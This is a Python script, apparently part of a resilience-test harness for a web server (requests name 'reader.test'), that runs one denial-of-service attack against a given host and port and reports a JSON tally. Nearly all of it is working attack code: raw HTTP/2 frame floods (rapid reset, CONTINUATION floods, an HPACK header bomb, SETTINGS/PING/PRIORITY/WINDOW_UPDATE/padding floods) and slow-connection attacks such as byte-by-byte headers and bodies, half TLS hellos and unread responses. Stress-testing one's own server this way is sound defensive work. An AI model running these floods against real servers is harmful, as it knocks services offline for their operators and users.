"""One attacker, in a process of its own: `attacker.py KIND HOST PORT SECONDS`.

It attacks until its time is over, opens a connection anew whenever one is ended, and prints as JSON what it
came to: connections, bytes sent and received, how many connections the other end ended.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass

from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
BATCH = 32
"""Frames that are sent at once."""
CROWD = 200
"""Connections of those attacks that need many."""


@dataclass
class Tally:
    """What an attack came to."""

    connections: int = 0
    sent: int = 0
    received: int = 0
    ended: int = 0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def request(path: str = "/steady", more: tuple[tuple[str, str], ...] = ()) -> bytes:
    """The field list of a request, the same for any stream."""
    encoder = Encoder()
    encoder.header_table_size = 0
    fields = ((":method", "GET"), (":scheme", "http"), (":authority", "reader.test"), (":path", path), *more)
    return encoder.encode(fields, huffman=False)


FIELDS = request()
BEGIN = PREFACE + frame(SETTINGS, 0, 0)


def streams() -> Iterator[int]:
    """The ids that a client may use, one after the other."""
    return iter(range(1, 2**31, 2))


def each_stream(*frames: Callable[[int], bytes]) -> Callable[[], Iterator[bytes]]:
    """Frames sent on one new stream after the other, and nothing read."""

    def batches() -> Iterator[bytes]:
        ids = streams()
        yield BEGIN
        while True:
            yield b"".join(make(stream) for stream in (next(ids) for _ in range(BATCH)) for make in frames)

    return batches


def again_and_again(first: bytes, then: bytes) -> Callable[[], Iterator[bytes]]:
    """The same frame without end."""

    def batches() -> Iterator[bytes]:
        yield BEGIN + first
        while True:
            yield then * BATCH

    return batches


def opened(stream: int) -> bytes:
    """A request that isn't over."""
    return frame(HEADERS, END_HEADERS, stream, FIELDS)


def asked(stream: int) -> bytes:
    """A whole request."""
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, FIELDS)


def bomb() -> bytes:
    """A large field, put into the table once and meant a thousand times."""
    literal = b"\x40\x03x-a" + b"\x7f\xa1\x1e" + b"a" * 4_000
    return frame(HEADERS, 0, 1, FIELDS + literal) + frame(CONTINUATION, END_HEADERS, 1, b"\xbe" * 16_000)


FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid resets": each_stream(opened, lambda n: frame(RST_STREAM, 0, n, struct.pack(">I", 8))),
    "resets we are made to send": each_stream(opened, lambda n: frame(WINDOW_UPDATE, 0, n, bytes(4))),
    "DATA after the end": each_stream(asked, lambda n: frame(DATA, 0, n, b"late")),
    "streams beyond the bound": each_stream(opened),
    "continuations": again_and_again(
        frame(HEADERS, 0, 1, FIELDS), frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 3_000)
    ),
    "empty continuations": again_and_again(frame(HEADERS, 0, 1, FIELDS), frame(CONTINUATION, 0, 1)),
    "SETTINGS": again_and_again(b"", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))),
    "PING": again_and_again(b"", frame(PING, 0, 0, bytes(8))),
    "PRIORITY": again_and_again(b"", frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 16))),
    "WINDOW_UPDATE": again_and_again(opened(1), frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))),
    "unknown frames": again_and_again(b"", frame(0xEE, 0, 0, bytes(100))),
    "empty DATA": again_and_again(opened(1), frame(DATA, 0, 1)),
    "padding": again_and_again(opened(1), frame(DATA, 8, 1, b"\xff" + bytes(255))),
    "field lists that grow": lambda: iter((BEGIN + bomb(), b"")),
    "heads that are too long": lambda: iter([b"GET / HTTP/1.1\r\n" + b"A: " + b"b" * 200_000]),
}


def flood(kind: str, to: tuple[str, int], until: float, tally: Tally) -> None:
    """Send without end, reading just so much that the other end can go on."""
    while time.monotonic() < until:
        with socket.create_connection(to, timeout=0.2) as connection:
            tally.connections += 1
            try:
                for batch in FLOODS[kind]():
                    connection.sendall(batch)
                    tally.sent += len(batch)
                    if _drain(connection, tally, 0.2 if not batch else 0) or time.monotonic() > until:
                        break
                else:
                    while not _drain(connection, tally, 0.2) and time.monotonic() < until:
                        pass
            except TimeoutError:
                pass  # it reads no more: so is back pressure
            except OSError:
                tally.ended += 1


def _drain(connection: socket.socket, tally: Tally, seconds: float) -> bool:
    """Read what is there; whether the other end has ended the connection."""
    connection.settimeout(seconds)
    try:
        while True:
            received = connection.recv(65536)
            tally.received += len(received)
            if not received:
                tally.ended += 1
                return True
    except (BlockingIOError, TimeoutError):
        return False
    finally:
        connection.settimeout(0.2)


HALF_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100)
PIPELINED = b"GET /steady HTTP/1.1\r\nHost: reader.test\r\n\r\n" * 200
SLOW: dict[str, tuple[bytes, bytes]] = {
    "heads byte by byte": (b"GET / HTTP/1.1\r\n", b"A"),
    "TLS that is half a hello": (HALF_HELLO, b"\x00"),
    "connections that say nothing": (b"", b""),
    "bodies byte by byte": (b"POST / HTTP/1.1\r\nHost: reader.test\r\nContent-Length: 100000\r\n\r\n", b"a"),
    "answers that nobody reads": (PIPELINED, b""),
    "streams that nobody reads": (
        PREFACE
        + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
        + b"".join(asked(stream) for stream in range(1, 100, 2)),
        b"",
    ),
}
"""What each of a crowd of connections sends first, and then now and then."""


def crowd(kind: str, to: tuple[str, int], until: float, tally: Tally) -> None:
    """Many connections that do little, and read nothing."""
    first, then = SLOW[kind]
    members: list[socket.socket] = []
    while time.monotonic() < until:
        while len(members) < CROWD and time.monotonic() < until:
            member = socket.create_connection(to, timeout=1)
            member.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            member.setblocking(False)
            members.append(member)
            tally.connections += 1
            _push(member, first, tally)
        time.sleep(0.1)
        for member in list(members):
            if not _push(member, then, tally):
                tally.ended += 1
                members.remove(member)
                member.close()
    for member in members:
        member.close()


def _push(member: socket.socket, what: bytes, tally: Tally) -> bool:
    """Send as much as is taken; whether the connection lives."""
    try:
        tally.sent += member.send(what)
    except BlockingIOError:
        return True
    except OSError:
        return False
    return True


def main() -> None:
    """Attack."""
    kind, host, port, seconds = sys.argv[1:]
    tally, until = Tally(), time.monotonic() + float(seconds)
    (flood if kind in FLOODS else crowd)(kind, (host, int(port)), until, tally)
    json.dump(asdict(tally), sys.stdout)


if __name__ == "__main__":
    main()
